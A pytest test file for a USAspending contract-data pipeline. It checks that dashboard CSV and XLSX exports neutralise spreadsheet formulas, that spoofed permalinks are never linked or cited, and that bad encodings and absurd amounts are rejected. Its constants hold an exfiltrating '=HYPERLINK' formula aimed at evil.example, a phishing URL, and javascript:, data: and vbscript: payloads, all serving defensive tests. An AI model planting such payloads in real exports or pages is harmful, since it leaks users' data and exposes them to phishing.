"""Issue 13: hostile and damaged input, built inside each test from real rows of ../shared/data.

Spreadsheet formulas: a vendor named `=HYPERLINK(…)` must reach every CSV and XLSX meant for a spreadsheet
as inert text (OWASP: a leading apostrophe), while `graph export --format csv` (neo4j-admin import) keeps the
raw value and says so."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import openpyxl
import pytest

from tests.apptest_support import download, run, serve
from tests.dashboard_support import HOSTILE_KEY, HOSTILE_UEI, ROOT, _ingest, curated_env, hostile_file

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
INERT = "'" + FORMULA
PHISH = "https://evil.example/phish"


@pytest.fixture(scope="module")
def formula_home(tmp_path_factory):
    """A real ICE award row whose vendor and description are the formula and whose permalink is a phishing page,
    alone in a store."""
    folder = tmp_path_factory.mktemp("formula")
    home = folder / "kg"
    _ingest(home, "normalized", str(hostile_file(folder, FORMULA, permalink=PHISH)))
    return home


@pytest.fixture
def formula_app(formula_home, monkeypatch):
    return serve(formula_home, monkeypatch)


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def test_dashboard_csv_and_xlsx_downloads_neutralize_formulas(formula_app):
    targets = run("targets", agency="ICE", today="2025-01-01")
    targets.button(key="t_prepare").click().run()
    for label in ("Ranking with citations (CSV)", "Awards behind the ranking (CSV)"):
        cells = csv_cells(download(targets, label))
        assert INERT in cells, label
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), label
    book = openpyxl.load_workbook(io.BytesIO(download(targets, "Ranking, awards and calendar (XLSX)")))
    values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert INERT in values and FORMULA not in values
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    vendor = run("vendor", name=HOSTILE_UEI)
    cells = csv_cells(download(vendor, "Awards (CSV)"))
    assert INERT in cells and FORMULA not in cells


def test_graph_export_csv_keeps_raw_values_and_says_so(formula_home, tmp_path):
    out = tmp_path / "import"
    done = subprocess.run([sys.executable, "-m", "graph", "export", "--format", "csv", str(out)], cwd=ROOT,
                          capture_output=True, text=True, env={**os.environ, **curated_env(formula_home)})
    assert done.returncode == 0, done.stderr
    assert "not made safe for spreadsheets" in done.stdout
    cells = [cell for path in out.glob("nodes_*.csv") for cell in csv_cells(path.read_bytes())]
    assert FORMULA in cells  # what neo4j-admin imports: the name as recorded


@pytest.mark.parametrize("link", [PHISH, "javascript:alert(1)", "data:text/html,<b>x</b>", "vbscript:msgbox(1)"])
def test_a_spoofed_permalink_is_never_a_link_and_never_cited(link):
    from dashboard.exports import citation
    from dashboard.profile import entity_links

    award = {"key": HOSTILE_KEY, "permalink": link, "vendor": {"id": "uei:X", "name": "X"}, "awarding_agency": {}}
    assert entity_links(award)["permalink"] is None
    cited = citation(award)
    assert f"USAspending: https://www.usaspending.gov/award/{HOSTILE_KEY}/ [the record's own link differs" in cited


def test_the_vendor_page_links_the_rebuilt_permalink_only(formula_app):
    vendor = run("vendor", name=HOSTILE_UEI)
    awards = next(d.value for d in vendor.dataframe if "obligated_basis" in d.value.columns)
    assert list(awards["permalink"]) == [None]  # the phishing link is not clickable
    assert f"https://www.usaspending.gov/award/{HOSTILE_KEY}/" in vendor.code[0].value
    assert PHISH not in vendor.code[0].value.split("not used:")[0]


def test_two_columns_of_one_name_stop_the_file_naming_both_positions(shared_data, tmp_path):
    source = sorted((shared_data / "spending_by_transaction_ice_cbp_fy2021_2026").glob("*.csv"))[0]
    with source.open(newline="", encoding="utf-8-sig") as handle:
        rows = [row for _, row in zip(range(4), csv.reader(handle))]
    header = rows[0]
    twice = header[0]
    rows[0] = [twice if i == 5 else name for i, name in enumerate(header)]
    path = tmp_path / "twice.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    home = tmp_path / "kg"
    done = subprocess.run([sys.executable, "-m", "ingest", "transactions-csv", str(path), "--no-progress"], cwd=ROOT,
                          capture_output=True, text=True, env={**os.environ, **curated_env(home)})
    assert done.returncode == 1 and done.stderr.count("\n") == 1, done.stderr
    assert str(path) in done.stderr and f"column {twice!r} twice, at positions 1 and 6" in done.stderr
    from graph.store import open_store

    assert open_store("embedded", home=home).stats()["nodes"] == {}  # nothing loaded


# -- decoding and amounts, through `python -m ingest` on both stores -------------------------------------------------

EXPORT = "spending_by_transaction_ice_cbp_fy2021_2026"


def real_rows(shared_data, count: int) -> list[list[str]]:
    """The header and the first `count` data rows of the FY2021 ICE/CBP transaction export."""
    source = shared_data / EXPORT / "CBP_ICE_FY2021_Contract_Obligations.csv"
    with source.open(newline="", encoding="utf-8-sig") as handle:
        return [row for _, row in zip(range(count + 1), csv.reader(handle))]


def write_rows(path, rows, encoding="utf-8"):
    with path.open("w", newline="", encoding=encoding) as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture
def cli_load(store_kind, request, monkeypatch, capsys, tmp_path):
    """Runs `python -m ingest ARGS --store KIND --json` in-process into an empty store; (exit code, summary, stderr)."""
    from ingest.cli import main
    from tests.conftest import open_test_store

    home = tmp_path / "kg"
    open_test_store(store_kind, home, request).close()  # empty (Neo4j: the test server)
    for name, value in curated_env(home).items():
        monkeypatch.setenv(name, value)
    if store_kind == "neo4j":
        server = request.getfixturevalue("neo4j_server")
        for name, key in (("NEO4J_URI", "uri"), ("NEO4J_USER", "user"), ("NEO4J_PASSWORD", "password"),
                          ("NEO4J_DATABASE", "database")):
            monkeypatch.setenv(name, server[key])

    def load(*args: str):
        code = main([*args, "--store", store_kind, "--json", "--no-progress"])
        out = capsys.readouterr()
        return code, (json.loads(out.out) if code == 0 else None), out.err

    def store():
        return open_test_store(store_kind, home, request, fresh=False)

    load.store = store
    return load


def vendor_names(store) -> set[str]:
    return {e["name"] for e in store.fetch_entities() if e["kind"] == "Vendor"}


def test_a_cp1252_file_is_detected_and_two_umlauts_stay_two_vendors(cli_load, shared_data, tmp_path, caplog):
    rows = real_rows(shared_data, 3)
    rows[1][2], rows[2][2] = "MÜLLER GMBH", "MÖLLER GMBH"
    path = write_rows(tmp_path / "cp1252.csv", rows, encoding="cp1252")
    code, summary, err = cli_load("transactions-csv", str(path))
    assert code == 0, err
    assert summary["encodings"][str(path)] == "cp1252"
    assert summary["rows_read"] == 3 == summary["rows_loaded"] + summary["rows_rejected"]
    assert f"{path}: not UTF-8; read as cp1252 (detected)" in caplog.text
    store = cli_load.store()
    try:
        assert {"MÜLLER GMBH", "MÖLLER GMBH"} <= vendor_names(store)
        assert not any("\ufffd" in name for name in vendor_names(store))
    finally:
        store.close()


def test_a_byte_the_declared_encoding_cannot_decode_stops_the_file_at_its_line(cli_load, shared_data, tmp_path):
    rows = real_rows(shared_data, 3)
    path = tmp_path / "broken.csv"
    write_rows(path, rows)
    data = path.read_bytes().split(b"\n")
    data[2] = data[2].replace(b"INC", b"IN\x81C", 1) if b"INC" in data[2] else data[2] + b"\x81"
    path.write_bytes(b"\n".join(data))
    code, _, err = cli_load("transactions-csv", str(path), "--encoding", "cp1252")
    assert code == 1 and err.count("\n") == 1, err
    assert f"{path}: line 3 " in err and "cannot be decoded as cp1252" in err and "nothing was loaded" in err
    code, _, err = cli_load("transactions-csv", str(path), "--encoding", "no-such-codec")
    assert code == 1 and "not an encoding Python knows" in err
    store = cli_load.store()
    try:
        assert store.stats()["nodes"] == {}
    finally:
        store.close()


def test_an_absurd_amount_is_rejected_with_its_line_and_no_total_overflows(cli_load, shared_data, tmp_path):
    rows = real_rows(shared_data, 4)
    rows[2][3] = "1e307"
    rows[3][3] = "-2000000000000.00"
    path = write_rows(tmp_path / "absurd.csv", rows)
    code, summary, err = cli_load("transactions-csv", str(path))
    assert code == 0, err
    assert (summary["rows_read"], summary["rows_loaded"], summary["rows_rejected"]) == (4, 2, 2)
    with open(summary["rejects_file"], newline="", encoding="utf-8") as handle:
        rejects = list(csv.DictReader(handle))
    assert [r["record"] for r in rejects] == ["line 3", "line 4"]
    assert all("exceeds the bound of $1,000,000,000,000" in r["reason"] for r in rejects)
    kept = sum(float(row[3]) for row in (rows[1], rows[4]))
    store = cli_load.store()
    try:
        from graph.store import FactFilter

        total = sum(g["cents"] for g in store.fetch_fact_groups(FactFilter(), None))
        assert total == round(kept * 100)
    finally:
        store.close()
